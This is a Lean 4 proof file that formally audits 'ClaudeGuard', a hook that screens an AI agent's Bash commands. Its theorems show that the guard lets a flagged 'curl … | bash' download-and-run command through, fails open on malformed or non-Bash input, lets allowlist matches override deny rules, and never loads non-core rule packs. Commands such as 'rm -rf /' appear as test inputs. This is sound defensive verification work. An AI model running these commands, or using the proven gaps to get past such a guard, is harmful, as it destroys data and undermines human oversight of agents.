  induction regions generalizing l with
  | nil => exact absurd hcov (by simp)
  | cons se rest ih =>
      simp only [List.foldl_cons]
      rcases hcov with ⟨se', hse', hc1, hc2⟩
      rcases List.mem_cons.mp hse' with h | h
      · subst h
        refine foldl_blankRange_get?_space _ _ _ ?_
        rw [blankRange_get?]
        rw [if_pos ⟨hc1, hc2, hi⟩]
      · exact ih _ (by rw [blankRange_length]; exact hi) ⟨se', h, hc1, hc2⟩

/-- Membership through `insertPair`. -/
theorem mem_insertPair (x y : Nat × Nat) (l : List (Nat × Nat)) :
    x ∈ insertPair y l ↔ x = y ∨ x ∈ l := by
  induction l with
  | nil => simp [insertPair]
  | cons z zs ih =>
      unfold insertPair
      split
      · simp [List.mem_cons]
      · simp only [List.mem_cons, ih]
        tauto

/-- `sortPairs` preserves membership. -/
theorem mem_sortPairs (x : Nat × Nat) (l : List (Nat × Nat)) :
    x ∈ sortPairs l ↔ x ∈ l := by
  induction l with
  | nil => simp [sortPairs]
  | cons y ys ih =>
      unfold sortPairs at ih ⊢
      simp only [List.foldr_cons, mem_insertPair, ih, List.mem_cons]

/-- `effStep` keeps everything already accumulated. -/
theorem effStep_mono (command : List Char) (cs : Option Nat)
    (acc : List (Nat × Nat)) (r : Nat × Nat × Char) (x : Nat × Nat)
    (hx : x ∈ acc) : x ∈ effStep command cs acc r := by
  unfold effStep
  split
  · exact hx
  · split
    · exact List.mem_append_left _ hx
    · exact hx

/-- Accumulated pairs survive the whole `effStep` fold. -/
theorem foldl_effStep_mono (command : List Char) (cs : Option Nat)
    (quoted : List (Nat × Nat × Char)) (acc : List (Nat × Nat)) (x : Nat × Nat)
    (hx : x ∈ acc) : x ∈ quoted.foldl (effStep command cs) acc := by
  induction quoted generalizing acc with
  | nil => exact hx
  | cons r rest ih => exact ih _ (effStep_mono _ _ _ _ _ hx)

/-- A safe-wrapper region not skipped by the comment test lands in the
`effStep` fold's output. -/
theorem mem_foldl_effStep (command : List Char) (cs : Option Nat)
    (quoted : List (Nat × Nat × Char)) (r : Nat × Nat × Char)
    (hskip : effSkip cs r.1 = false)
    (hsafe : is_safe_wrapper_arg command r.1 = true) :
    ∀ acc, r ∈ quoted → (r.1, r.2.1) ∈ quoted.foldl (effStep command cs) acc := by
  induction quoted with
  | nil => intro acc hr; exact absurd hr (by simp)
  | cons q rest ih =>
      intro acc hr
      simp only [List.foldl_cons]
      rcases List.mem_cons.mp hr with h | h
      · subst h
        refine foldl_effStep_mono _ _ _ _ _ ?_
        unfold effStep
        rw [hskip]
        simp only [Bool.false_eq_true, if_false]
        rw [if_pos hsafe]
        exact List.mem_append_right _ (by simp)
      · exact ih _ h

/-- A quoted region whose segment's first word is `xargs` is classified
inert: every early branch of `is_safe_wrapper_arg` returns `True`, and
`xargs` is in `_SAFE_WRAPPERS`. -/
theorem safe_wrapper_of_xargs (command : List Char) (pos : Nat)
    (hx : segment_first_word command pos = "xargs".data) :
    is_safe_wrapper_arg command pos = true := by
  simp only [is_safe_wrapper_arg]
  split
  · rfl
  · split
    · rfl
    · rw [hx]
      rfl

/-- `get_effective_command` never changes the length. -/
theorem effective_length_eq (command : List Char) :
    (get_effective_command command).length = command.length := by
  simp only [get_effective_command]
  split
  · rfl
  · exact foldl_blankRange_length _ _

/-- Every region produced by the scan ends at or before `length + 2`, and a
single-quote region ends at or before `length + 1`. -/
theorem fqrAux_end_le (cmd : List Char) :
    ∀ fuel i, ∀ r ∈ fqrAux cmd fuel i,
      r.2.1 ≤ cmd.length + 2 ∧ (r.2.2 = '\'' → r.2.1 ≤ cmd.length + 1) := by
  intro fuel
  induction fuel with
  | zero =>
      intro i r hr
      exact absurd hr (by simp [fqrAux])
  | succ fuel ih =>
      intro i r hr
      rw [fqrAux] at hr
      by_cases h : i < cmd.length
      · rw [dif_pos h] at hr
        by_cases hq : cmd.get ⟨i, h⟩ = '\''
        · rw [if_pos hq] at hr
          simp only [List.mem_cons] at hr
          rcases hr with h1 | h1
          · subst h1
            have he : (sqFind cmd (cmd.length + 1) (i + 1)).getD cmd.length ≤ cmd.length := by
              cases hs : sqFind cmd (cmd.length + 1) (i + 1) with
              | none => simp
              | some e' =>
                  simp only [Option.getD_some]
                  exact le_of_lt (sqFind_spec cmd (cmd.length + 1) (i + 1) e' hs).2
            dsimp only
            exact ⟨by omega, fun _ => by omega⟩
          · exact ih _ r h1
        · rw [if_neg hq] at hr
          by_cases hq2 : cmd.get ⟨i, h⟩ = '"'
          · rw [if_pos hq2] at hr
            simp only [List.mem_cons] at hr
            rcases hr with h1 | h1
            · subst h1
              have hj : dqScan cmd (cmd.length + 1) (i + 1) ≤ cmd.length + 1 :=
                dqScan_le cmd (cmd.length + 1) (i + 1) (by omega)
              dsimp only
              refine ⟨by omega, fun hc => ?_⟩
              exact absurd hc (by decide)
            · exact ih _ r h1
          · rw [if_neg hq2] at hr
            exact ih _ r hr
      · rw [dif_neg h] at hr
        exact absurd hr (by simp)

/-- A found single quote really is a single quote. -/
theorem sqFind_char (cmd : List Char) :
    ∀ fuel i e, sqFind cmd fuel i = some e → cmd.get? e = some '\'' := by
  intro fuel
  induction fuel with
  | zero => intro i e he; exact absurd he (by simp [sqFind])
  | succ fuel ih =>
      intro i e he
      rw [sqFind] at he
      by_cases h : i < cmd.length
      · rw [dif_pos h] at he
        by_cases hq : cmd.get ⟨i, h⟩ = '\''
        · rw [if_pos hq] at he
          cases he
          rw [List.get?_eq_get h, hq]
        · rw [if_neg hq] at he
          exact ih (i + 1) e he
      · rw [dif_neg h] at he
        exact Option.noConfusion he

/-- If no single quote occurs at or after `i`, the find fails. -/
theorem sqFind_eq_none_of (cmd : List Char) :
    ∀ fuel i, (∀ j, i ≤ j → j < cmd.length → cmd.get? j ≠ some '\'') →
      sqFind cmd fuel i = none := by
  intro fuel
  induction fuel with
  | zero => intro i _; rfl
  | succ fuel ih =>
      intro i hno
      rw [sqFind]
      by_cases h : i < cmd.length
      · rw [dif_pos h]
        have hne : cmd.get ⟨i, h⟩ ≠ '\'' := by
          intro hc
          exact hno i le_rfl h (by rw [List.get?_eq_get h, hc])
        rw [if_neg hne]
        exact ih (i + 1) (fun j hj hlt => hno j (by omega) hlt)
      · rw [dif_neg h]

/-- With sufficient fuel, a `dqScan` result inside the string is the closing
double quote. -/
theorem dqScan_close_char (cmd : List Char) :
    ∀ fuel j, cmd.length + 1 ≤ fuel + j →
      dqScan cmd fuel j < cmd.length → cmd.get? (dqScan cmd fuel j) = some '"' := by
  intro fuel
  induction fuel with
  | zero =>
      intro j hfj hv
      rw [dqScan] at hv ⊢
      omega
  | succ fuel ih =>
      intro j hfj hv
      rw [dqScan] at hv ⊢
      by_cases h : j < cmd.length
      · rw [dif_pos h] at hv ⊢
        by_cases hb : cmd.get ⟨j, h⟩ = '\\'
        · rw [if_pos hb] at hv ⊢
          exact ih (j + 2) (by omega) hv
        · rw [if_neg hb] at hv ⊢
          by_cases hq : cmd.get ⟨j, h⟩ = '"'
          · rw [if_pos hq] at hv ⊢
            rw [List.get?_eq_get h, hq]
          · rw [if_neg hq] at hv ⊢
            exact ih (j + 1) (by omega) hv
      · rw [dif_neg h] at hv ⊢
        omega

/-- `dqScan` lands at `len + 1` only by skipping a trailing backslash. -/
theorem dqScan_overrun_backslash (cmd : List Char) :
    ∀ fuel j, j ≤ cmd.length → dqScan cmd fuel j = cmd.length + 1 →
      cmd.get? (cmd.length - 1) = some '\\' := by
  intro fuel
  induction fuel with
  | zero =>
      intro j hj he
      rw [dqScan] at he
      omega
  | succ fuel ih =>
      intro j hj he
      rw [dqScan] at he
      by_cases h : j < cmd.length
      · rw [dif_pos h] at he
        by_cases hb : cmd.get ⟨j, h⟩ = '\\'
        · rw [if_pos hb] at he
          by_cases h2 : j + 2 ≤ cmd.length
          · exact ih (j + 2) h2 he
          · have hj1 : cmd.length - 1 = j := by omega
            rw [hj1, List.get?_eq_get h, hb]
        · rw [if_neg hb] at he
          by_cases hq : cmd.get ⟨j, h⟩ = '"'
          · rw [if_pos hq] at he
            omega
          · rw [if_neg hq] at he
            exact ih (j + 1) (by omega) he
      · rw [dif_neg h] at he
        omega

/-- Region-end characterization of the quote scanner: an end inside the
string sits on the closing quote; an unclosed single quote ends at exactly
`length + 1`; only a double-quote region (trailing backslash skipped) can
end past `length + 1`. -/
theorem fqrAux_region_ends (cmd : List Char) :
    ∀ fuel i, ∀ r ∈ fqrAux cmd fuel i,
      (r.2.1 ≤ cmd.length → cmd.get? (r.2.1 - 1) = some r.2.2) ∧
      (r.2.2 = '\'' →
        (∀ j, r.1 < j → j < cmd.length → cmd.get? j ≠ some '\'') →
          r.2.1 = cmd.length + 1) ∧
      (cmd.length + 1 < r.2.1 →
          r.2.2 = '"' ∧ cmd.get? (cmd.length - 1) = some '\\') := by
  intro fuel
  induction fuel with
  | zero =>
      intro i r hr
      exact absurd hr (by simp [fqrAux])
  | succ fuel ih =>
      intro i r hr
      rw [fqrAux] at hr
      by_cases h : i < cmd.length
      · rw [dif_pos h] at hr
        by_cases hq : cmd.get ⟨i, h⟩ = '\''
        · rw [if_pos hq] at hr
          simp only [List.mem_cons] at hr
          rcases hr with h1 | h1
          · subst h1
            dsimp only
            refine ⟨?_, ?_, ?_⟩
            · intro hle
              cases hs : sqFind cmd (cmd.length + 1) (i + 1) with
              | none =>
                  rw [hs] at hle
                  simp only [Option.getD_none] at hle
                  omega
              | some e' =>
                  simp only [Option.getD_some, Nat.add_sub_cancel]
                  exact sqFind_char cmd (cmd.length + 1) (i + 1) e' hs
            · intro _ hno
              have hs : sqFind cmd (cmd.length + 1) (i + 1) = none :=
                sqFind_eq_none_of cmd (cmd.length + 1) (i + 1)
                  (fun j hj hlt => hno j (by omega) hlt)
              rw [hs]
              rfl
            · intro hgt
              have he : (sqFind cmd (cmd.length + 1) (i + 1)).getD cmd.length ≤ cmd.length := by
                cases hs : sqFind cmd (cmd.length + 1) (i + 1) with
                | none => simp
                | some e' =>
                    simp only [Option.getD_some]
                    exact le_of_lt (sqFind_spec cmd (cmd.length + 1) (i + 1) e' hs).2
              omega
          · exact ih _ r h1
        · rw [if_neg hq] at hr
          by_cases hq2 : cmd.get ⟨i, h⟩ = '"'
          · rw [if_pos hq2] at hr
            simp only [List.mem_cons] at hr
            rcases hr with h1 | h1
            · subst h1
              dsimp only
              refine ⟨?_, ?_, ?_⟩
              · intro hle
                simp only [Nat.add_sub_cancel]
                exact dqScan_close_char cmd (cmd.length + 1) (i + 1) (by omega) (by omega)
              · intro hc
                exact absurd hc (by decide)
              · intro hgt
                have hjle : dqScan cmd (cmd.length + 1) (i + 1) ≤ cmd.length + 1 :=
                  dqScan_le cmd (cmd.length + 1) (i + 1) (by omega)
                refine ⟨rfl, ?_⟩
                exact dqScan_overrun_backslash cmd (cmd.length + 1) (i + 1) (by omega) (by omega)
            · exact ih _ r h1
          · rw [if_neg hq2] at hr
            exact ih _ r hr
      · rw [dif_neg h] at hr
        exact absurd hr (by simp)

end ClaudeGuard

namespace ClaudeGuard

/-!
## Claim theorems
-/

set_option maxHeartbeats 4000000

/-- C1. The claim says a command flagged as a dangerous execution bridge is
never allowed, even when allowlisted. In the code, `main` never consults
`check_execution_bridges`: `curl http://example.com/script.sh | bash` is
flagged as a dangerous pipe-to-shell bridge, yet the decision path allows
it (no table matches, output document absent). This contradicts the
repository's own test expecting a deny for this exact input. -/
theorem bridge_flagged_pipe_to_shell_allowed :
    check_execution_bridges ("curl http://example.com/script.sh | bash".data) =
      some (true, "Piping output to a shell interpreter executes arbitrary code.") ∧
    guardDecision ("curl http://example.com/script.sh | bash".data) = .allow ∧
    main_run (.ok ⟨some (.jstr "Bash"),
        some [("command", .jstr "curl http://example.com/script.sh | bash")]⟩) = .proceed := by
  refine ⟨by decide, by decide, ?_⟩
  decide

/-- C2. The claim says dangerous text appearing only inside a safe-wrapper
argument is allowed, in particular `echo "rm -rf /"`. In the code, `main`
matches the Tier-2 recursive-delete rule against the raw text (it never
builds the effective command), so `echo "rm -rf /"` is denied — even
though `get_effective_command` classifies the quoted region inert and
blanks it. This contradicts the repository's own test expecting Allow. -/
theorem echo_string_literal_denied :
    guardDecision ("echo \"rm -rf /\"".data) =
      .denyRedirect "filesystem" "rm -rf is destructive and irreversible."
        "List the directory contents first, then ask the user to confirm deletion." ∧
    get_effective_command ("echo \"rm -rf /\"".data) = ("echo           ".data) := by
  constructor
  · decide
  · decide

/-- C3. The claim says `git branch -d …` is allowed while `git branch -D …`
is deny-redirected. In the code, `main` matches every tier pattern with
`re.IGNORECASE`, so the lowercase merged-only delete is also caught by the
`git\s+branch\s+-D\b` rule and denied, contradicting the repository's own
case-sensitivity test. -/
theorem branch_delete_lowercase_also_denied :
    guardDecision ("git branch -d feature/old".data) =
      .denyRedirect "git" "git branch -D force-deletes without checking if the branch is merged."
        "Use 'git branch -d' instead: it only deletes if the branch is merged." ∧
    guardDecision ("git branch -D feature/old".data) =
      .denyRedirect "git" "git branch -D force-deletes without checking if the branch is merged."
        "Use 'git branch -d' instead: it only deletes if the branch is merged." := by
  constructor
  · decide
  · decide

/-- C4. The claim (and the spec's normalizer contract) says `normalize` is
idempotent. It is not: path-prefix stripping runs after whitespace
collapsing, so `ls /usr/` normalizes to `"ls "` (trailing space), which a
second pass strips to `"ls"`. -/
theorem normalize_not_idempotent :
    normalize ("ls /usr/".data) = "ls ".data ∧
    normalize (normalize ("ls /usr/".data)) = "ls".data ∧
    normalize (normalize ("ls /usr/".data)) ≠ normalize ("ls /usr/".data) := by
  refine ⟨by decide, by decide, by decide⟩

/-- C5. Building the effective command preserves length: inert quoted
regions and the comment span are overwritten with spaces (blanking is
clamped to the string), never removed. -/
theorem get_effective_command_preserves_length (command : List Char) :
    (get_effective_command command).length = command.length :=
  effective_length_eq command

/-- C6. Any command matching an allowlist rule (and not flagged as a
dangerous execution bridge) is allowed: the allowlist is checked first in
`main`, before either tier table, so a Tier-1/Tier-2 match on the same
text is unreachable. -/
theorem allowlist_match_forces_allow (command : List Char)
    (hsafe : ∃ p ∈ SAFE_PATTERNS, research p command true = true)
    (_hbridge : check_execution_bridges command = none) :
    guardDecision command = .allow := by
  have hany : SAFE_PATTERNS.any (fun p => research p command true) = true :=
    List.any_eq_true.mpr hsafe
  simp [guardDecision, hany]

/-- C6 witness: `rm -rf /tmp/build` matches the `/tmp/` allowlist rule, is
not bridge-flagged, and is allowed — even though its literal text also
matches a Tier-2 rule. -/
theorem allowlist_match_forces_allow_witness :
    guardDecision ("rm -rf /tmp/build".data) = .allow ∧
    TIER2_PATTERNS.any (fun r => research r.1 ("rm -rf /tmp/build".data) true) = true :=
  ⟨allowlist_match_forces_allow _
      ⟨rcat [rmRfLong, wsP, rstr "/tmp/"], by decide, by decide⟩ (by decide),
   by decide⟩

/-- C7. The claim says `load_all` merges the rules of every domain pack.
In the code, `load_all` imports only `guard.packs.core`, so after it
completes none of the CI/CD, cloud, DNS, or infra-as-code rules are in the
merged tables (shown below per pack by pattern-string absence). -/
theorem load_all_missing_noncore_rules :
    load_all_tier1 = core_tier1 ∧ load_all_tier2 = core_tier2 ∧
    load_all_allowlist = core_allowlist ∧
    cicd_tier1.all (fun r => !((load_all_tier1.map (fun t => t.1)).contains r.1)) = true ∧
    cicd_tier2.all (fun r => !((load_all_tier2.map (fun t => t.1)).contains r.1)) = true ∧
    cloud_tier1.all (fun r => !((load_all_tier1.map (fun t => t.1)).contains r.1)) = true ∧
    cloud_tier2.all (fun r => !((load_all_tier2.map (fun t => t.1)).contains r.1)) = true ∧
    cloud_allowlist.all (fun p => !(load_all_allowlist.contains p)) = true ∧
    dns_tier1.all (fun r => !((load_all_tier1.map (fun t => t.1)).contains r.1)) = true ∧
    dns_tier2.all (fun r => !((load_all_tier2.map (fun t => t.1)).contains r.1)) = true ∧
    infra_tier2.all (fun r => !((load_all_tier2.map (fun t => t.1)).contains r.1)) = true := by
  refine ⟨rfl, rfl, rfl, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_⟩ <;> decide

/-- C8. The guard fails open: unparseable input, a non-Bash tool, or a
missing/empty/non-string command field all make `main` exit silently (the
decision is Allow and no output document is emitted). -/
theorem fail_open_on_bad_input (g : GuardInput)
    (h : g = .malformed ∨
      ∃ d, g = .ok d ∧
        (d.tool_name ≠ some (.jstr "Bash") ∨
         ((d.tool_input.getD []).lookup "command").getD (.jstr "") = .jstr "" ∨
         ((d.tool_input.getD []).lookup "command").getD (.jstr "") = .jnonstr)) :
    main_run g = .proceed := by
  rcases h with h | ⟨d, rfl, hd⟩
  · subst h
    rfl
  · rcases hd with hd | hd | hd
    · cases hcmd : ((d.tool_input.getD []).lookup "command").getD (.jstr "") with
      | jnonstr => simp [main_run, hcmd]
      | jstr c => simp [main_run, hcmd, hd]
    · simp [main_run, hd]
    · simp [main_run, hd]

/-- C8 witness: malformed input, a Write-tool call, a non-string command,
and a missing `tool_input` all proceed silently. -/
theorem fail_open_on_bad_input_witness :
    main_run .malformed = .proceed ∧
    main_run (.ok ⟨some (.jstr "Write"), some [("file_path", .jstr "/tmp/x")]⟩) = .proceed ∧
    main_run (.ok ⟨some (.jstr "Bash"), some [("command", .jnonstr)]⟩) = .proceed ∧
    main_run (.ok ⟨some (.jstr "Bash"), none⟩) = .proceed :=
  ⟨fail_open_on_bad_input _ (Or.inl rfl),
   fail_open_on_bad_input _ (Or.inr ⟨_, rfl, Or.inl (by decide)⟩),
   fail_open_on_bad_input _ (Or.inr ⟨_, rfl, Or.inr (Or.inr (by decide))⟩),
   fail_open_on_bad_input _ (Or.inr ⟨_, rfl, Or.inr (Or.inl (by decide))⟩)⟩

/-- C9. `xargs` is a safe wrapper: whenever the current segment's first
word (as `is_safe_wrapper_arg` computes it, path prefix stripped) is
`xargs`, each quoted region starting there is classified inert and every
one of its in-range positions is a space in the effective command. -/
theorem xargs_quoted_arg_blanked (command : List Char) (r : Nat × Nat × Char)
    (hr : r ∈ find_quoted_regions command)
    (hx : segment_first_word command r.1 = "xargs".data)
    (i : Nat) (h1 : r.1 ≤ i) (h2 : i < r.2.1) (h3 : i < command.length) :
    (get_effective_command command).get? i = some ' ' := by
  have hsafe := safe_wrapper_of_xargs command r.1 hx
  simp only [get_effective_command]
  cases hcs : find_comment_start command (find_quoted_regions command) with
  | none =>
      have hmem : (r.1, r.2.1) ∈ (find_quoted_regions command).foldl (effStep command none) [] :=
        mem_foldl_effStep command none _ r (by simp [effSkip]) hsafe [] hr
      rw [if_neg (by simp only [List.isEmpty_eq_true]; exact List.ne_nil_of_mem hmem)]
      exact foldl_blankRange_get?_cov _ _ _ h3
        ⟨(r.1, r.2.1), (mem_sortPairs _ _).mpr hmem, h1, h2⟩
  | some c =>
      by_cases hlt : c ≤ r.1
      · rw [if_neg (by simp)]
        refine foldl_blankRange_get?_cov _ _ _ h3
          ⟨(c, command.length), (mem_sortPairs _ _).mpr (List.mem_append_right _ (by simp)),
            by omega, by omega⟩
      · have hskip : effSkip (some c) r.1 = false := by
          simp only [effSkip, decide_eq_false_iff_not]
          omega
        have hmem := mem_foldl_effStep command (some c) _ r hskip hsafe [] hr
        rw [if_neg (by simp)]
        exact foldl_blankRange_get?_cov _ _ _ h3
          ⟨(r.1, r.2.1), (mem_sortPairs _ _).mpr (List.mem_append_left _ hmem), h1, h2⟩

/-- C9 witness: in `xargs "rm -rf /"` the quoted region `(6, 16)` is an
xargs argument and position 7 of the effective command is a space. -/
theorem xargs_quoted_arg_blanked_witness :
    (6, 16, '"') ∈ find_quoted_regions ("xargs \"rm -rf /\"".data) ∧
    (get_effective_command ("xargs \"rm -rf /\"".data)).get? 7 = some ' ' :=
  ⟨by decide,
   xargs_quoted_arg_blanked ("xargs \"rm -rf /\"".data) (6, 16, '"')
     (by decide) (by decide) 7 (by decide) (by decide) (by decide)⟩

/-- C10 counterexample. The claim says an unclosed final quote yields a
last region ending exactly at `len(command) + 1`. On `"\` (a double quote
followed by a backslash) the backslash skip jumps past the end and
`find_quoted_regions` reports end `4 = len + 2`, not `len + 1 = 3`. -/
theorem unclosed_backslash_quote_end_exceeds :
    find_quoted_regions ("\"\\".data) = [(0, 4, '"')] ∧
    ¬ ((4 : Nat) = ("\"\\".data).length + 1) := by
  decide

/-- C10 amended. A quoted region whose end index is within the string ends
on its closing quote character, so when the final quote is never closed the
last region's end exceeds the length; every end is at most `length + 2`,
with ends past `length + 1` occurring only for a double-quoted region whose
trailing backslash was skipped (the string then ends in a backslash); an
unclosed single quote (no closing quote later in the string) ends at
exactly `length + 1`; and `get_effective_command` clamps blanking to the
string length so its output has exactly the length of its input. -/
theorem unclosed_quote_region_ends (command : List Char) :
    (∀ r ∈ find_quoted_regions command,
        (r.2.1 ≤ command.length → command.get? (r.2.1 - 1) = some r.2.2) ∧
        r.2.1 ≤ command.length + 2 ∧
        (r.2.2 = '\'' → r.2.1 ≤ command.length + 1) ∧
        (r.2.2 = '\'' →
          (∀ j, r.1 < j → j < command.length → command.get? j ≠ some '\'') →
            r.2.1 = command.length + 1) ∧
        (command.length + 1 < r.2.1 →
            r.2.2 = '"' ∧ command.get? (command.length - 1) = some '\\')) ∧
    (get_effective_command command).length = command.length :=
  ⟨fun r hr =>
    ⟨(fqrAux_region_ends command (command.length + 1) 0 r hr).1,
     (fqrAux_end_le command (command.length + 1) 0 r hr).1,
     (fqrAux_end_le command (command.length + 1) 0 r hr).2,
     (fqrAux_region_ends command (command.length + 1) 0 r hr).2.1,
     (fqrAux_region_ends command (command.length + 1) 0 r hr).2.2⟩,
   effective_length_eq command⟩

/-- C10 witness: the unclosed single quote of `'abc` (which has no later
single quote) yields a region ending at exactly `5 = len + 1`; the region
of `"\` ends past `len + 1`, so the string provably ends in a backslash;
and the effective command of `'abc` keeps its length. -/
theorem unclosed_quote_region_ends_witness :
    ((5 : Nat) = ("'abc".data).length + 1) ∧
    (("\"\\".data).get? (("\"\\".data).length - 1) = some '\\') ∧
    (get_effective_command ("'abc".data)).length = ("'abc".data).length :=
  ⟨(((unclosed_quote_region_ends ("'abc".data)).1 (0, 5, '\'') (by decide)).2.2.2.1 (by decide)
      (by
        intro j h1 h2
        have hlen : ("'abc".data).length = 4 := rfl
        rw [hlen] at h2
        interval_cases j <;> decide)),
   ((((unclosed_quote_region_ends ("\"\\".data)).1 (0, 4, '"') (by decide)).2.2.2.2
      (by decide)).2),
   (unclosed_quote_region_ends ("'abc".data)).2⟩

end ClaudeGuard
